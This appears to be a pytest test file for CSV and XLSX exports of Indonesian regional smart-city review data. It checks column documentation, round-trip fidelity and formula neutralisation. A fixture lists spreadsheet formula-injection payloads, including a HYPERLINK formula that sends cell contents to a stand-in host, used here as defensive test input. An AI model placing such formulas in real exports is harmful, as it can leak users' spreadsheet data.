"""The release and review exports in dashboards.exports, without a database:
what is written reads back the same, every column is documented, and text that
a spreadsheet could run as a formula never becomes one."""

from __future__ import annotations

import io
import re
from datetime import datetime, timedelta, timezone
from decimal import Decimal
from typing import Any

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from dashboards.analytics import release_frame
from dashboards.exports import (
    NOTES_SHEET,
    RELEASE_COLUMNS,
    REVIEW_COLUMNS,
    release_table,
    review_table,
    to_csv,
    to_xlsx,
)
from tests.dashboards.test_analytics import (
    registry,
    release_content,
    synthetic_release,
)

HEADER = re.compile(r"^[a-z][a-z_]*(:<KODE>)?$")
DETAIL_FAMILIES = ["dimension", "element", "aspect", "sub_dimension"]
FORMULAS = [
    '=HYPERLINK("http://example.com/?"&A1,"Klik")',
    "+62 811 1234",
    "-1+2",
    "@SUM(A1:A2)",
    "\tindented",
    "\rreturn",
]


def review_rows() -> list[dict[str, Any]]:
    return [
        {
            "region_code": "36.74",
            "region_name": "Kota Tangerang Selatan",
            "indicator": "BP-GOV-01",
            "reviewer": "ani",
            "review_status": "submitted",
            "level": 4,
            "no_evidence": False,
            "comment": "Perda No. 5/2017 tentang Masterplan Smart City, hlm. 3-4",
            "citation": "masterplan.pdf p. 3",
            "submitted_at": "2017-11-02T09:30:00+07:00",
        },
        {
            "region_code": "36.74",
            "region_name": "Kota Tangerang Selatan",
            "indicator": "BP-GOV-02",
            "reviewer": "budi",
            "review_status": "draft",
            "level": None,
            "no_evidence": True,
            "comment": "",
            "citation": "",
            "submitted_at": None,
        },
        {
            "region_code": "14.05",
            "region_name": "Kabupaten Pelalawan",
            "indicator": "PR-BAS-01",
            "reviewer": "citra",
            "review_status": "withdrawn",
            "level": 2,
            "no_evidence": False,
            "comment": "Dokumen \u201cRPJMD\u201d, Rp 1.500.000; ñ é",
            "citation": None,
            "submitted_at": None,
        },
    ]


@pytest.fixture
def release() -> pd.DataFrame:
    return release_table(release_frame(release_content(), registry()))


def _headers(columns: list[tuple[str, str, str]]) -> list[str]:
    return [header for header, _, _ in columns]


def assert_same(table: pd.DataFrame, back: pd.DataFrame) -> None:
    """back (as read from a file) holds what table holds: same headers and rows,
    numbers within 1e-6, empty cells where table has NA."""
    assert list(back.columns) == list(table.columns)
    assert len(back) == len(table)
    for column in table.columns:
        mine, theirs = table[column], back[column]
        if pd.api.types.is_bool_dtype(mine.dtype):
            assert theirs.astype(bool).tolist() == mine.tolist(), column
        elif pd.api.types.is_numeric_dtype(mine.dtype):
            expected = mine.astype("float64").to_numpy(na_value=np.nan)
            got = pd.to_numeric(theirs).astype("float64").to_numpy()
            np.testing.assert_allclose(got, expected, atol=1e-6, err_msg=column)
        else:
            expected = mine.fillna("").astype(str).tolist()
            assert theirs.fillna("").astype(str).tolist() == expected, column


def _read_csv(data: bytes, table: pd.DataFrame) -> pd.DataFrame:
    text = [c for c in table.columns if not pd.api.types.is_numeric_dtype(table[c])]
    return pd.read_csv(
        io.BytesIO(data),
        encoding="utf-8-sig",
        dtype=dict.fromkeys(text, str),
        keep_default_na=False,
        na_values=[""],
    )


def _read_xlsx(data: bytes, sheet: str, **options: Any) -> pd.DataFrame:
    return pd.read_excel(
        io.BytesIO(data), sheet_name=sheet, engine="openpyxl", **options
    )


# The column documentation ---------------------------------------------------------


def test_release_columns_are_documented_in_order() -> None:
    headers = _headers(RELEASE_COLUMNS)
    assert headers[:11] == [
        "region_code",
        "region_name",
        "kind",
        "province",
        "cohort_year",
        "index",
        "band",
        "complete",
        "coverage",
        "blueprint",
        "practice",
    ]
    ranks = [h for h in headers if h.startswith("rank_")]
    assert ranks == [
        "rank_national",
        "rank_kind",
        "rank_province",
        "rank_cohort",
        "rank_size",
        "rank_low",
        "rank_high",
        "rank_adjusted",
        "rank_change",
    ]
    status = headers[headers.index("rank_high") + 1 : -4]
    assert status == [
        "ranked",
        "unranked_reason",
        "n_reviews",
        "tie_low",
        "tie_high",
        "index_low",
        "index_high",
        "index_adjusted",
        "rank_adjusted",
        "rank_change",
        "low_agreement",
        "caveat",
    ]
    assert headers[-4:] == [f"{family}:<KODE>" for family in DETAIL_FAMILIES]
    assert len(set(headers)) == len(headers)
    for columns in (RELEASE_COLUMNS, REVIEW_COLUMNS):
        for header, indonesian, english in columns:
            assert HEADER.match(header), header
            assert header.isascii()
            assert indonesian.strip()
            assert english.strip()


def test_release_table_columns(release: pd.DataFrame) -> None:
    fixed = [h for h in _headers(RELEASE_COLUMNS) if ":" not in h]
    assert list(release.columns[: len(fixed)]) == fixed
    details = list(release.columns[len(fixed) :])
    families = [d.partition(":")[0] for d in details]
    assert families == sorted(families, key=DETAIL_FAMILIES.index)
    for family in DETAIL_FAMILIES:
        codes = [d.partition(":")[2] for d in details if d.startswith(f"{family}:")]
        assert codes == sorted(codes)
        assert codes, family
    assert details[:6] == [
        f"dimension:{c}" for c in sorted(["GOV", "ECO", "BRA", "SOC", "LIV", "ENV"])
    ]
    assert len(release) == 25
    first = release.iloc[0]
    assert first["region_code"] == "15.71"
    assert first["region_name"] == "Kota Jambi"
    assert first["province"] == "Jambi"
    assert first["cohort_year"] == 2017
    assert first["rank_national"] == 1
    assert str(release["complete"].dtype) == "bool"


def test_release_table_of_a_frame_without_details() -> None:
    frame = release_frame({"regions": [{"region": "11.01"}]}, registry())
    table = release_table(frame)
    assert list(table.columns) == [h for h in _headers(RELEASE_COLUMNS) if ":" not in h]
    assert table.loc[0, "region_name"] == "Kabupaten Aceh Selatan"
    assert not table.loc[0, "complete"]


def test_review_table() -> None:
    table = review_table(review_rows())
    assert list(table.columns) == _headers(REVIEW_COLUMNS)
    assert str(table["level"].dtype) == "Int64"
    assert table["level"].isna().tolist() == [False, True, False]
    assert table["no_evidence"].tolist() == [False, True, False]
    assert table["submitted_at"].tolist()[1:] == ["", ""]
    assert table.loc[2, "citation"] == ""
    assert len(review_table([])) == 0


# CSV ---------------------------------------------------------------------------


def test_release_csv_reads_back(release: pd.DataFrame) -> None:
    data = to_csv(release)
    assert data.startswith(b"\xef\xbb\xbf")  # BOM
    text = data.decode("utf-8-sig")
    assert text.splitlines()[0] == ",".join(release.columns)
    assert re.search(r"\d\.\d{7}", text) is None  # at most 6 decimals
    assert "3.155184" in text
    assert_same(release, _read_csv(data, release))


def test_review_csv_reads_back() -> None:
    table = review_table(review_rows())
    data = to_csv(table)
    assert "Rp 1.500.000; ñ é".encode() in data
    assert_same(table, _read_csv(data, table))


def test_csv_neutralises_formulas() -> None:
    rows = review_rows()[:1] * len(FORMULAS)
    rows = [{**row, "comment": text} for row, text in zip(rows, FORMULAS, strict=True)]
    rows[0] = {**rows[0], "region_name": "=1+1", "citation": "@cmd"}
    table = review_table(rows)
    back = _read_csv(to_csv(table), table)
    assert back["comment"].tolist() == ["'" + text for text in FORMULAS]
    assert back.loc[0, "region_name"] == "'=1+1"
    assert back.loc[0, "citation"] == "'@cmd"
    assert back.loc[1, "region_name"] == "Kota Tangerang Selatan"  # left alone
    negative = pd.DataFrame({"value": [-1.5, 2.0]})
    assert to_csv(negative).decode("utf-8-sig").splitlines() == ["value", "-1.5", "2.0"]


def test_csv_number_format() -> None:
    table = pd.DataFrame(
        {
            "index": [3.1551844, 0.00005, 1e-7, 2.0, np.nan, 12345678.5],
            "rank": pd.array([1, None, 2, 3, 4, 5], dtype="Int64"),
            "complete": [True, False, True, True, False, True],
        }
    )
    lines = to_csv(table).decode("utf-8-sig").split("\r\n")
    assert lines == [
        "index,rank,complete",
        "3.155184,1,True",
        "0.00005,,False",
        "0.0,2,True",
        "2.0,3,True",
        ",4,False",
        "12345678.5,5,True",
        "",
    ]


# XLSX --------------------------------------------------------------------------


def test_release_xlsx_reads_back(release: pd.DataFrame) -> None:
    notes = [
        ("checksum", "9f2c" * 16),
        ("cycle", "Demo GM100SC 2017"),
        ("published_at", "2017-12-01T10:00:00+07:00"),
    ]
    data = to_xlsx(release, sheet="Rilis", notes=notes)
    back = _read_xlsx(data, "Rilis", dtype={"region_code": str})
    assert_same(release, back)

    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Rilis", NOTES_SHEET]
    sheet = book["Rilis"]
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1])
    assert not sheet["A2"].font.bold
    index = list(release.columns).index("index") + 1
    assert sheet.cell(row=2, column=index).data_type == "n"
    assert isinstance(sheet.cell(row=2, column=index).value, float)
    rank = list(release.columns).index("rank_national") + 1
    assert sheet.cell(row=2, column=rank).value == 1
    assert sheet.cell(row=len(release) + 1, column=rank).value is None  # NA
    assert sheet["A2"].data_type == "s"  # region codes stay text: "35.10"

    notes_sheet = [list(row) for row in book[NOTES_SHEET].iter_rows(values_only=True)]
    assert ["checksum", "9f2c" * 16, None] in notes_sheet
    assert ["cycle", "Demo GM100SC 2017", None] in notes_sheet
    documented = {row[0]: row[1:] for row in notes_sheet if row[0]}
    for column in release.columns:
        assert documented[column][0], column
        assert documented[column][1], column
    assert "GOV" in documented["dimension:GOV"][1]


def test_review_xlsx_reads_back() -> None:
    table = review_table(review_rows())
    data = to_xlsx(table, sheet="Penilaian")
    back = _read_xlsx(data, "Penilaian", dtype={"region_code": str})
    assert_same(table, back)
    book = load_workbook(io.BytesIO(data))
    documented = [row[0] for row in book[NOTES_SHEET].iter_rows(values_only=True)]
    assert set(table.columns) <= set(documented)


def test_xlsx_never_writes_formulas() -> None:
    rows = [
        {**review_rows()[0], "comment": text, "citation": "#N/A"} for text in FORMULAS
    ]
    table = review_table(rows)
    data = to_xlsx(table, sheet="Penilaian", notes=[("cycle", "=2+2")])
    book = load_workbook(io.BytesIO(data))
    sheet = book["Penilaian"]
    comment = list(table.columns).index("comment") + 1
    citation = list(table.columns).index("citation") + 1
    for row, text in enumerate(FORMULAS, start=2):
        cell = sheet.cell(row=row, column=comment)
        assert cell.data_type == "s"
        assert cell.value == text  # as it was: no apostrophe in XLSX
        assert cell.quotePrefix  # Excel's hidden one: stays text when edited
        assert sheet.cell(row=row, column=citation).data_type == "s"
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
    notes = book[NOTES_SHEET]
    assert [c.data_type for c in notes[2]][:2] == ["s", "s"]
    assert notes["B2"].value == "=2+2"
    # Read with formulas evaluated: there are none to evaluate.
    back = _read_xlsx(data, "Penilaian")
    assert back["comment"].tolist() == FORMULAS


def test_xlsx_drops_characters_excel_cannot_hold() -> None:
    table = review_table([{**review_rows()[0], "comment": "hlm.\x0c3\x00 ok\tya"}])
    back = _read_xlsx(to_xlsx(table, sheet="Penilaian"), "Penilaian")
    assert back.loc[0, "comment"] == "hlm.3 ok\tya"


def test_xlsx_sheet_names_are_made_valid() -> None:
    table = pd.DataFrame({"a": [1]})
    long = to_xlsx(table, sheet="Rilis 2017/1: [final] " + "x" * 40)
    name = load_workbook(io.BytesIO(long)).sheetnames[0]
    assert len(name) <= 31
    assert not set(name) & set("[]:*?/\\")
    clash = to_xlsx(table, sheet="Keterangan")
    assert load_workbook(io.BytesIO(clash)).sheetnames[1] == NOTES_SHEET
    assert len(set(load_workbook(io.BytesIO(clash)).sheetnames)) == 2


class _Lazy:
    """Stands in for a lazy translation: text only through str()."""

    def __init__(self, text: str) -> None:
        self.text = text

    def __str__(self) -> str:
        return self.text


def test_xlsx_notes_and_sheet_of_any_type() -> None:
    published = datetime(2017, 12, 1, 10, tzinfo=timezone(timedelta(hours=7)))
    notes = [
        (_Lazy("Diterbitkan"), published),
        ("Rilis", 2),
        ("Bobot", Decimal("0.5")),
        ("Siklus", _Lazy("Demo 2017")),
    ]
    data = to_xlsx(pd.DataFrame({"a": [1]}), sheet=_Lazy("Rilis"), notes=notes)
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Rilis", NOTES_SHEET]
    rows = [row[:2] for row in book[NOTES_SHEET].iter_rows(values_only=True)]
    assert rows[1:5] == [
        ("Diterbitkan", "2017-12-01 10:00:00+07:00"),
        ("Rilis", 2),
        ("Bobot", 0.5),
        ("Siklus", "Demo 2017"),
    ]


def test_exports_of_514_regions() -> None:
    regions = registry()
    table = release_table(release_frame(synthetic_release(regions), regions))
    assert len(table) == 514
    csv = to_csv(table)
    assert_same(table, _read_csv(csv, table))
    xlsx = to_xlsx(table, sheet="Rilis", notes=[("regions", "514")])
    assert_same(table, _read_xlsx(xlsx, "Rilis", dtype={"region_code": str}))


def test_csv_neutralises_full_width_formulas_and_keeps_negative_numbers() -> None:
    texts = ["\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)"]
    table = pd.DataFrame({"comment": texts, "delta": [-1.5, -2.0, 0.0, 3.25]})

    back = pd.read_csv(io.BytesIO(to_csv(table)), encoding="utf-8-sig")

    assert back["comment"].tolist() == ["'" + text for text in texts]
    assert back["delta"].tolist() == [-1.5, -2.0, 0.0, 3.25]


def test_release_table_names_bands_and_keeps_an_unknown_code() -> None:
    frame = release_frame(release_content(), registry())
    codes = list(frame["band"])
    assert any(codes)
    names = {code: f"Predikat {code.upper()}" for code in set(codes) if code}
    unknown = sorted(names)[0]
    del names[unknown]

    table = release_table(frame, band_names=names)

    assert list(table["band"]) == [names.get(code, code) for code in codes]
    assert unknown in list(table["band"])


def test_xlsx_quote_prefixes_only_formula_like_text() -> None:
    table = pd.DataFrame({"comment": ["Baik", "\uff1d1+1", "-2"], "delta": [1, 2, -3]})

    sheet = load_workbook(io.BytesIO(to_xlsx(table, sheet="Data")))["Data"]

    cells = [sheet.cell(row=row, column=1) for row in (2, 3, 4)]
    assert [cell.quotePrefix for cell in cells] == [False, True, False]
    assert [sheet.cell(row=row, column=2).value for row in (2, 3, 4)] == [1, 2, -3]
